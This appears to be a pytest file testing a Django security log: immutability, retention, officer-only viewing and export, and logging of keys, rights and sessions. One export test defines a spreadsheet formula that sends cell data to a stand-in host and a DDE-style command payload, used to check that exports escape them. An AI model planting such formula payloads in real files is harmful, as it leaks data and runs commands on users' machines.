"""The security log: append-only, kept for a while, read and exported by security officers, and
fed by every door (keys, downloads, rights, deactivation, sessions)."""

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from django.conf import settings
from django.contrib.auth.models import Group, Permission
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_celery_beat.models import PeriodicTask

from core.enums import SecurityEventKind
from core.models import SECURITY_LOG_MINIMUM_DAYS, ImmutableRecordError, SecurityEvent
from core.services import security_event_record, security_events_prune
from core.tasks import prune_security_log
from members.accounts import user_deactivate
from members.actors import Actor
from members.services import api_key_issue, api_key_revoke
from tests.factories import StaffFactory, UserFactory

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def officer(db):
    user = StaffFactory(email="officer@staff.example.org")
    user.groups.add(Group.objects.get(name="Security officers"))
    return user


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def events(kind: str):
    return SecurityEvent.objects.filter(kind=kind).order_by("id")


# Append-only --------------------------------------------------------------------------------------


def test_an_event_is_never_changed_or_deleted_through_the_application():
    event = security_event_record(kind=SecurityEventKind.SIGN_IN_FAILED, identifier="x@example.org")
    event.identifier = "changed"
    with pytest.raises(ImmutableRecordError):
        event.save()
    with pytest.raises(ImmutableRecordError):
        event.delete()
    with pytest.raises(ImmutableRecordError):
        SecurityEvent.objects.filter(pk=event.pk).update(identifier="changed")
    with pytest.raises(ImmutableRecordError):
        SecurityEvent.objects.filter(pk=event.pk).delete()
    assert SecurityEvent.objects.get(pk=event.pk).identifier == "x@example.org"


def test_events_past_their_retention_are_pruned_and_younger_ones_kept():
    now = timezone.now()
    with time_machine.travel(now - timedelta(days=settings.SECURITY_LOG_RETENTION_DAYS + 1)):
        security_event_record(kind=SecurityEventKind.SIGN_IN_FAILED, identifier="old@example.org")
    with time_machine.travel(now - timedelta(days=settings.SECURITY_LOG_RETENTION_DAYS - 1)):
        security_event_record(kind=SecurityEventKind.SIGN_IN_FAILED, identifier="kept@example.org")
    assert prune_security_log() == 1
    assert list(SecurityEvent.objects.values_list("identifier", flat=True)) == ["kept@example.org"]
    assert security_events_prune() == 0


def test_the_prune_runs_daily_and_the_retention_has_a_floor():
    task = PeriodicTask.objects.get(task="core.prune_security_log")
    assert (task.enabled, task.crontab.hour, task.crontab.minute) == (True, "3", "15")
    assert settings.SECURITY_LOG_MINIMUM_DAYS == SECURITY_LOG_MINIMUM_DAYS == 30


# Viewing and exporting ---------------------------------------------------------------------------


def test_security_officers_read_the_log_and_other_staff_do_not(officer, charlie):
    security_event_record(kind=SecurityEventKind.SIGN_IN, user=charlie)
    page = signed_in(officer).get(f"/admin/core/securityevent/?q={charlie.email}&kind__exact=sign_in")
    assert page.status_code == 200
    assert [(event.kind, event.user) for event in page.context["cl"].result_list] == [("sign_in", charlie)]
    assert signed_in(charlie).get("/admin/core/securityevent/").status_code == 403
    assert signed_in(charlie).get("/admin/core/securityevent/export/").status_code == 403


def test_the_group_holds_exactly_view_and_export(officer):
    permissions = Group.objects.get(name="Security officers").permissions.values_list("codename", flat=True)
    assert sorted(permissions) == ["export_securityevent", "view_securityevent"]
    assert sorted(
        Permission.objects.filter(content_type__app_label="core", content_type__model="securityevent").values_list(
            "codename", flat=True
        )
    ) == ["export_securityevent", "view_securityevent"]


def test_nobody_adds_changes_or_deletes_events_in_the_admin(officer, django_user_model):
    root = django_user_model.objects.create_superuser(email="root@staff.example.org", password="x-long-password-1")
    event = security_event_record(kind=SecurityEventKind.SIGN_IN, user=officer)
    for user in (officer, root):
        client = signed_in(user)
        assert client.get("/admin/core/securityevent/add/").status_code == 403
        assert client.get(f"/admin/core/securityevent/{event.pk}/delete/").status_code == 403
        change = client.post(f"/admin/core/securityevent/{event.pk}/change/", {"identifier": "x"})
        assert change.status_code == 403


def test_a_viewer_without_the_export_right_cannot_export(db):
    viewer = StaffFactory(email="viewer@staff.example.org")
    viewer.user_permissions.add(Permission.objects.get(codename="view_securityevent"))
    client = signed_in(viewer)
    assert client.get("/admin/core/securityevent/").status_code == 200
    assert client.get("/admin/core/securityevent/export/").status_code == 403


def test_the_export_is_formula_safe_follows_the_filters_and_is_itself_logged(officer):
    # A payload typed as the user name of the admin's sign-in form, and one sent as the browser's name.
    Client(HTTP_USER_AGENT="@SUM(1+1)*cmd|' /C calc'!A0").post(
        reverse("admin:login"), {"username": PAYLOAD, "password": "wrong-password"}
    )
    security_event_record(kind=SecurityEventKind.SIGN_IN, user=officer)
    response = signed_in(officer).get("/admin/core/securityevent/export/?kind__exact=sign_in_failed")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [(row["event"], row["identifier"], row["client"]) for row in rows] == [
        ("sign_in_failed", "'" + PAYLOAD, "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ]
    download = events(SecurityEventKind.DOWNLOAD).get()
    assert (download.user, download.detail["subject"], download.detail["filters"]) == (
        officer,
        "security log",
        "kind__exact=sign_in_failed",
    )


# What the doors log --------------------------------------------------------------------------------


def test_api_keys_issued_and_revoked_are_logged_with_who_did_it(charlie, estonia):
    admin_client = signed_in(charlie)
    charlie.is_superuser = True
    charlie.save()
    api_key, _key = api_key_issue(actor=Actor.for_user(charlie), member=estonia, name="erp", scopes=["read"])
    admin_client.post("/admin/members/apikey/", {"action": "revoke", "_selected_action": [api_key.pk]})
    issued, revoked = events(SecurityEventKind.API_KEY_ISSUED).get(), events(SecurityEventKind.API_KEY_REVOKED).get()
    assert (issued.identifier, issued.detail) == (
        f"key:{api_key.prefix}",
        {"member": "EE", "name": "erp", "scopes": ["read"]},
    )
    assert (revoked.identifier, revoked.actor, revoked.ip_address) == (f"key:{api_key.prefix}", charlie, "127.0.0.1")
    api_key.refresh_from_db()
    api_key_revoke(actor=Actor.for_user(charlie), api_key=api_key)  # already revoked: nothing more to log
    assert events(SecurityEventKind.API_KEY_REVOKED).count() == 1


def test_a_keys_first_use_of_the_day_from_each_address_is_logged_once(estonia):
    _record, key = api_key_issue(actor=Actor.system(), member=estonia, name="erp", scopes=["read"])
    header = {"HTTP_AUTHORIZATION": f"Bearer {key}"}
    with time_machine.travel("2025-03-01 08:00Z", tick=False) as clock:
        for address in ("203.0.113.1", "203.0.113.1", "203.0.113.2"):
            assert Client(REMOTE_ADDR=address).get("/api/v1/members/", **header).status_code == 200
        clock.shift(timedelta(days=1))
        Client(REMOTE_ADDR="203.0.113.1").get("/api/v1/members/", **header)
    used = events(SecurityEventKind.API_KEY_USED)
    assert [(e.ip_address, e.detail["day"]) for e in used] == [
        ("203.0.113.1", "2025-03-01"),
        ("203.0.113.2", "2025-03-01"),
        ("203.0.113.1", "2025-03-02"),
    ]


def test_a_refused_key_is_logged_by_its_prefix_and_address(db):
    Client(REMOTE_ADDR="203.0.113.5").get("/api/v1/members/", HTTP_AUTHORIZATION="Bearer abcd1234.wrong-secret")
    refused = events(SecurityEventKind.API_KEY_REJECTED).get()
    assert (refused.identifier, refused.ip_address) == ("key:abcd1234", "203.0.113.5")


def test_changes_of_groups_permissions_and_staff_flags_are_logged(charlie):
    user = UserFactory(email="dana@ee.example.org")
    reviewers = Group.objects.get(name="Reviewers")
    user.groups.add(reviewers)
    reviewers.user_set.remove(user)
    user.user_permissions.add(Permission.objects.get(codename="view_securityevent"))
    user.is_staff = True
    user.is_superuser = True
    user.save()
    user.first_name = "Dana"
    user.save()  # not a right: nothing logged
    changes = [(e.user, e.detail) for e in events(SecurityEventKind.PERMISSIONS_CHANGED).filter(user=user)]
    assert changes == [
        (user, {"groups": {"added": ["Reviewers"]}}),
        (user, {"groups": {"removed": ["Reviewers"]}}),
        (user, {"user_permissions": {"added": ["core.view_securityevent"]}}),
        (user, {"flags": {"is_staff": [False, True], "is_superuser": [False, True]}}),
    ]


def test_a_groups_permissions_changing_is_logged():
    group = Group.objects.create(name="Auditors")
    group.permissions.add(Permission.objects.get(codename="view_securityevent"))
    event = events(SecurityEventKind.PERMISSIONS_CHANGED).get()
    assert (event.identifier, event.detail) == (
        "group:Auditors",
        {"group": "Auditors", "permissions": {"added": ["core.view_securityevent"]}},
    )


def test_rights_changed_in_the_admin_name_the_staff_member_who_did_it(db, django_user_model):
    root = django_user_model.objects.create_superuser(email="root@staff.example.org", password="x-long-password-1")
    user = UserFactory(email="dana@ee.example.org")
    client = signed_in(root)
    page = client.get(f"/admin/members/user/{user.pk}/change/")
    form = page.context["adminform"].form
    data = {name: form[name].value() for name in ("email", "first_name", "last_name", "language")}
    data.update(
        {
            "is_active": "on",
            "is_staff": "on",
            "groups": [Group.objects.get(name="Reviewers").pk],
            "date_joined_0": "2025-01-01",
            "date_joined_1": "10:00:00",
        }
    )
    assert client.post(f"/admin/members/user/{user.pk}/change/", data).status_code == 302
    logged = [(e.user, e.actor, e.detail) for e in events(SecurityEventKind.PERMISSIONS_CHANGED)]
    assert logged == [
        (user, root, {"flags": {"is_staff": [False, True]}}),
        (user, root, {"groups": {"added": ["Reviewers"]}}),
    ]


def test_deactivation_is_logged(charlie):
    user = UserFactory(email="dana@ee.example.org")
    user_deactivate(user=user)
    assert [e.user for e in events(SecurityEventKind.USER_DEACTIVATED)] == [user]


def test_sign_out_and_the_end_of_a_session_are_logged(alice, cycle):
    with time_machine.travel("2025-03-01 08:00Z", tick=False) as clock:
        client = Client()
        client.force_login(alice)
        client.post(reverse("logout"))
        client.force_login(alice)
        # Active every 100 minutes (well within the idle timeout) for longer than the absolute lifetime.
        answers = []
        for _step in range(settings.SESSION_ABSOLUTE_AGE // 6000 + 1):
            clock.shift(timedelta(minutes=100))
            answers.append(client.get("/").status_code)
    assert answers == [200] * (settings.SESSION_ABSOLUTE_AGE // 6000) + [302]
    kinds = list(SecurityEvent.objects.filter(user=alice).order_by("id").values_list("kind", flat=True))
    assert kinds == ["sign_in", "sign_out", "sign_in", "session_ended", "sign_out"]
